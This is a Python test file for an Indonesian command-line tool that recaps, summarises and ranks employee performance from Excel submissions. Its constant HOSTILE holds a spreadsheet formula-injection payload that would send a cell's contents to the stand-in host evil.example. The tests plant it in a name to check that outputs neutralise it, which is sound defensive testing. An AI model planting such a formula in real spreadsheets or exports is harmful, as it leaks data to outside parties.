"""CLI: kinerja rekap, ringkasan, peringkat over a real store (contoh files, one hostile name)."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from tests.conftest import BUNDLED_CONFIG

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
UNITS = ("DINKES", "BKD", "DISHUB")


@pytest.fixture(scope="module")
def workspace(tmp_path_factory):
    """config + masuk/ with three contoh units; one DINKES name made hostile."""
    import openpyxl
    from typer.testing import CliRunner

    from kinerja_cli.cli.main import app

    root = tmp_path_factory.mktemp("ws")
    (root / "config").mkdir()
    shutil.copy(BUNDLED_CONFIG, root / "config" / "indikator.yaml")
    args = ["--config", str(root / "config" / "indikator.yaml"), "contoh", str(root / "masuk")]
    for u in UNITS:
        args += ["-u", u]
    res = CliRunner().invoke(app, args, catch_exceptions=False)
    assert res.exit_code == 0, res.output
    path = root / "masuk" / "RENCANA-DINKES-2026.xlsx"
    wb = openpyxl.load_workbook(path)
    ws = wb["Pegawai"]
    header_row = next(r for r in range(1, 10) if ws.cell(r, 1).value == "NIP")
    ws.cell(header_row + 3, 2).value = HOSTILE
    ws.cell(header_row + 3, 2).data_type = "s"
    wb.save(path)
    return root


@pytest.fixture(scope="module")
def recapped(workspace):
    """``kinerja rekap masuk/`` once: the store then holds the three files."""
    from typer.testing import CliRunner

    from kinerja_cli.cli.main import app

    out = workspace / "keluaran" / "REKAP.xlsx"
    res = CliRunner().invoke(
        app,
        [*_common(workspace), "rekap", str(workspace / "masuk"), "-o", str(out)],
        catch_exceptions=False,
    )
    return workspace, out, res


def _common(ws: Path) -> list[str]:
    return ["--config", str(ws / "config" / "indikator.yaml"), "--db", str(ws / "kinerja.db")]


@pytest.fixture()
def run(invoke, recapped):
    ws = recapped[0]

    def _run(*args: str):
        return invoke(*_common(ws), *args)

    return _run


def _library_result(ws: Path, periode: str = "tahunan"):
    from kinerja_cli.config import load_config
    from kinerja_cli.pipeline import score_current
    from kinerja_cli.store import Store

    cfg = load_config(ws / "config" / "indikator.yaml")
    with Store.open(ws / "kinerja.db") as store:
        return score_current(store, cfg, 2026, periode)


# ---- rekap ------------------------------------------------------------------------------------


@pytest.mark.slow(reason="end-to-end CLI runs, ~3 s on 2 busy cores")
def test_rekap_ingests_scores_and_writes_the_workbook(recapped):
    import openpyxl

    from kinerja_cli.writers import SHEETS

    _ws, out, res = recapped
    assert res.exit_code in (0, 1), res.output
    assert "REKAP.xlsx" in res.stderr
    assert "3 dari 10 unit sudah mengirim" in res.stderr
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == list(SHEETS)
    names = [
        c.value for row in wb["Pegawai"].iter_rows(min_row=5) for c in row if c.value == HOSTILE
    ]
    assert names, "the hostile name is in the recap"
    assert all(
        c.data_type == "s" for row in wb["Pegawai"].iter_rows() for c in row if c.value == HOSTILE
    )
    assert len(list(wb["Sumber"].iter_rows(min_row=5))) == 3


def test_rekap_exit_code_follows_data_errors(recapped):
    ws, _, res = recapped
    result = _library_result(ws)
    errors = any(i.is_error for i in result.issues)
    assert res.exit_code == (1 if errors else 0)


def test_rekap_default_name_and_periode(run, recapped, monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    res = run("rekap", "--periode", "tw2")
    assert res.exit_code in (0, 1), res.output
    assert (tmp_path / "REKAP-2026-TW2.xlsx").is_file()
    assert "Sampai Triwulan 2" in res.stderr


def test_rekap_rejects_bad_periode_and_paper(run, tmp_path):
    res = run("rekap", "--periode", "TW5", "-o", str(tmp_path / "x.xlsx"))
    assert res.exit_code == 2 and "TW5" in res.stderr
    res = run("rekap", "--kertas", "A3", "-o", str(tmp_path / "x.xlsx"))
    assert res.exit_code == 2 and "A3" in res.stderr
    assert not (tmp_path / "x.xlsx").exists()


def test_rekap_on_an_empty_store_says_what_to_do(invoke, tmp_path):
    res = invoke(
        "--config",
        str(BUNDLED_CONFIG),
        "--db",
        str(tmp_path / "k.db"),
        "rekap",
        "-o",
        str(tmp_path / "r.xlsx"),
    )
    assert res.exit_code == 1
    assert "kinerja impor" in res.stderr
    assert not (tmp_path / "r.xlsx").exists()


# ---- ringkasan --------------------------------------------------------------------------------


def test_ringkasan_table_on_stderr(run):
    res = run("ringkasan")
    assert res.exit_code == 0, res.output
    assert res.stdout == ""
    assert "DINKES" in res.stderr and "Keseluruhan" in res.stderr


def test_ringkasan_json_is_the_library_summary(run, recapped):
    from kinerja_cli.writers import summary

    res = run("summary", "--format", "json")
    assert res.exit_code == 0, res.output
    assert json.loads(res.stdout) == json.loads(json.dumps(summary(_library_result(recapped[0]))))


def test_ringkasan_markdown_and_english(run):
    res = run("ringkasan", "--format", "markdown", "--lang", "en")
    assert res.exit_code == 0
    assert res.stdout.startswith("# EMPLOYEE PERFORMANCE RECAP")
    assert "| DINKES |" in res.stdout and "units submitted" in res.stdout


def test_ringkasan_rejects_unknown_format(run):
    res = run("ringkasan", "--format", "html")
    assert res.exit_code == 2 and "html" in res.stderr


# ---- peringkat --------------------------------------------------------------------------------


def test_peringkat_json_parity_with_the_library(run, recapped):
    from kinerja_cli.writers import ranking_rows

    res = run("peringkat", "--format", "json")
    assert res.exit_code == 0, res.output
    got = json.loads(res.stdout)
    assert got == json.loads(json.dumps(ranking_rows(_library_result(recapped[0]), "pegawai")))
    for key in (
        "peringkat",
        "nip",
        "nama",
        "unit",
        "nilai",
        "rating_hasil_kerja",
        "rating_perilaku",
        "predikat",
    ):
        assert key in got[0]
    for row in got:
        assert row["nilai"] is None or round(row["nilai"], 2) == row["nilai"]


def test_peringkat_unit_level_json(run, recapped):
    from kinerja_cli.writers import ranking_rows

    res = run("rank", "--tingkat", "unit", "--format", "json")
    got = json.loads(res.stdout)
    assert got == json.loads(json.dumps(ranking_rows(_library_result(recapped[0]), "unit")))
    assert {r["unit"] for r in got} == set(UNITS)
    assert {"peringkat", "unit", "nama", "capaian", "predikat"} <= set(got[0])


def test_peringkat_top_and_unit(run):
    res = run("peringkat", "--unit", "dinkes", "--top", "5", "--format", "json")
    rows = json.loads(res.stdout)
    assert rows
    assert {r["unit"] for r in rows} == {"DINKES"}
    assert all(r["peringkat"] <= 5 for r in rows)
    assert rows[0]["peringkat"] == 1 == rows[0]["peringkat_unit"]
    res = run("peringkat", "--top", "3", "--format", "json")
    assert all(r["peringkat"] <= 3 for r in json.loads(res.stdout))


def test_peringkat_csv_is_neutralised(run, tmp_path):
    res = run("peringkat", "--format", "csv", "--unit", "DINKES")
    assert res.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    assert "'" + HOSTILE in {r["nama"] for r in rows}
    assert not any(v[:1] in "=+-@" for r in rows for v in r.values() if v)
    out = tmp_path / "p.csv"
    res = run("peringkat", "--format", "csv", "-o", str(out))
    assert res.exit_code == 0 and res.stdout == ""
    assert out.read_bytes().startswith(b"\xef\xbb\xbfperingkat,")


def test_peringkat_xlsx_needs_output_and_writes(run, tmp_path):
    import openpyxl

    res = run("peringkat", "--format", "xlsx")
    assert res.exit_code == 2 and "-o" in res.stderr
    out = tmp_path / "peringkat.xlsx"
    res = run("peringkat", "--format", "xlsx", "-o", str(out), "--top", "10")
    assert res.exit_code == 0, res.output
    ws = openpyxl.load_workbook(out)["Peringkat"]
    assert ws.cell(4, 1).value == "Peringkat" and ws.cell(5, 1).value == 1


def test_peringkat_table_and_english(run):
    res = run("peringkat", "--top", "3", "--lang", "en")
    assert res.exit_code == 0
    assert res.stdout == ""
    assert "Employee Ranking" in res.stderr and "Rank" in res.stderr


def test_peringkat_usage_errors(run, tmp_path):
    assert run("peringkat", "--unit", "NOPE").exit_code == 2
    assert run("peringkat", "--top", "0").exit_code == 2
    assert run("peringkat", "--tingkat", "dinas").exit_code == 2
    assert run("peringkat", "--format", "pdf").exit_code == 2
    assert run("peringkat", "-o", str(tmp_path / "x.txt")).exit_code == 2
    res = run("peringkat", "--unit", "NOPE", "--lang", "en")
    assert "Known codes" in res.stderr


def test_help_texts_have_examples(invoke):
    for name in ("rekap", "ringkasan", "peringkat", "summary", "rank", "recap"):
        res = invoke(name, "--help")
        assert res.exit_code == 0
        assert "Contoh: kinerja" in res.stdout


def test_rekap_with_an_unreadable_file_still_writes_and_exits_1(run, tmp_path):
    junk = tmp_path / "RENCANA-RUSAK-2026.xlsx"
    junk.write_bytes(b"PK\x03\x04 not really a zip")
    out = tmp_path / "r.xlsx"
    res = run("rekap", str(junk), "-o", str(out))
    assert res.exit_code == 1, res.output
    assert "RENCANA-RUSAK-2026.xlsx" in res.stderr
    assert out.is_file()


def test_peringkat_into_a_closed_pipe_is_not_an_internal_error(recapped):
    """`kinerja peringkat --format json | head -c 10`: the reader leaves early."""
    import subprocess
    import sys

    ws = recapped[0]
    code = "from kinerja_cli.cli.main import run; run()"
    proc = subprocess.Popen(
        [sys.executable, "-c", code, *_common(ws), "peringkat", "--format", "json"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None and proc.stderr is not None
    assert proc.stdout.read(10)
    proc.stdout.close()
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=60) == 0, err
    assert "internal" not in err and "BrokenPipe" not in err


# ---- printed dates: --tanggal, else SOURCE_DATE_EPOCH, else today ----------------------------


def _all_strings(path: Path) -> set[str]:
    import openpyxl

    wb = openpyxl.load_workbook(path, read_only=True)
    try:
        return {
            v
            for ws in wb.worksheets
            for row in ws.iter_rows(values_only=True)
            for v in row
            if isinstance(v, str)
        }
    finally:
        wb.close()


def test_rekap_prints_the_date_given_by_tanggal(run, tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    out = tmp_path / "R.xlsx"
    res = run("rekap", "--tanggal", "2026-12-31", "-o", out)
    assert res.exit_code in (0, 1), res.output
    strings = _all_strings(out)
    assert "Medan, 31 Desember 2026" in strings
    assert not any("2027" in s or "2025" in s for s in strings if s.startswith("Medan, "))


def test_source_date_epoch_is_the_default_date(run, tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1798761600")  # 2027-01-01 00:00 UTC
    out = tmp_path / "R.xlsx"
    assert run("rekap", "-o", out).exit_code in (0, 1)
    assert "Medan, 1 Januari 2027" in _all_strings(out)
    # --tanggal wins over the environment
    out2 = tmp_path / "P.xlsx"
    res = run("peringkat", "--format", "xlsx", "--tanggal", "2026-06-30", "-o", out2)
    assert res.exit_code == 0, res.output
    assert "Medan, 30 Juni 2026" in _all_strings(out2)


def test_malformed_dates_are_usage_errors(run, tmp_path, monkeypatch):
    res = run("rekap", "--tanggal", "31-12-2026", "-o", tmp_path / "R.xlsx")
    assert res.exit_code == 2
    assert "--tanggal" in res.output and not (tmp_path / "R.xlsx").exists()
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "kemarin")
    res = run("rekap", "-o", tmp_path / "R.xlsx")
    assert res.exit_code == 2 and "SOURCE_DATE_EPOCH" in res.output


@pytest.mark.slow(reason="end-to-end CLI runs, ~2 s on 2 busy cores")
def test_feedback_copy_prints_the_given_date(recapped, invoke, tmp_path):
    ws = recapped[0]
    res = invoke(
        *_common(ws),
        "validasi",
        ws / "masuk" / "RENCANA-BKD-2026.xlsx",
        "--umpan-balik",
        tmp_path,
        "--tanggal",
        "2026-12-31",
    )
    assert res.exit_code in (0, 1), res.output
    (copy,) = tmp_path.glob("*-UMPAN-BALIK.xlsx")
    assert any("31 Desember 2026" in s for s in _all_strings(copy))


def test_output_path_mistakes_are_usage_errors(run, tmp_path):
    """A folder as -o, or a non-xlsx name for the recap, exits 2 with a message in Indonesian
    (was exit 4 'IsADirectoryError', or an xlsx silently written under a .csv name)."""
    (tmp_path / "o.xlsx").mkdir()
    res = run("rekap", "-o", tmp_path / "o.xlsx")
    assert res.exit_code == 2 and "adalah folder, bukan berkas" in res.output
    res = run("peringkat", "--format", "xlsx", "-o", tmp_path / "o.xlsx")
    assert res.exit_code == 2 and "adalah folder, bukan berkas" in res.output
    res = run("rekap", "-o", tmp_path / "x.csv")
    assert res.exit_code == 2 and ".xlsx" in res.output
    assert not (tmp_path / "x.csv").exists()


def test_outputs_of_kinerja_in_an_input_folder_are_skipped(run, recapped, tmp_path):
    """A recap or ranked list saved into the input folder is kinerja's own output: the next
    `rekap DIR` or `validasi DIR` names it as skipped instead of storing it as a broken
    submission (issue 16)."""
    import shutil

    ws, recap, _ = recapped
    inbox = tmp_path / "masuk"
    shutil.copytree(ws / "masuk", inbox)
    shutil.copy(recap, inbox / "REKAP-2026-tahunan.xlsx")
    res = run("peringkat", "--format", "xlsx", "-o", inbox / "peringkat.xlsx")
    assert res.exit_code == 0, res.output
    checked = run("validasi", inbox, "--format", "json")
    data = json.loads(checked.stdout)
    skipped = {Path(s["path"]).name: s["kode"] for s in data["skipped"]}
    skipped.pop("MANIFEST.json", None)  # written by kinerja contoh: not a spreadsheet
    assert skipped == {
        "REKAP-2026-tahunan.xlsx": "lewati_keluaran_kinerja",
        "peringkat.xlsx": "lewati_keluaran_kinerja",
    }
    assert not any("REKAP" in f["file"] or "peringkat" in f["file"] for f in data["files"])
    res = run("rekap", inbox, "-o", tmp_path / "R.xlsx")
    assert "keluaran kinerja" in " ".join(res.stderr.split())
    status = json.loads(run("status", "--format", "json").stdout)
    assert not any("REKAP" in (u.get("file") or "") for u in status)
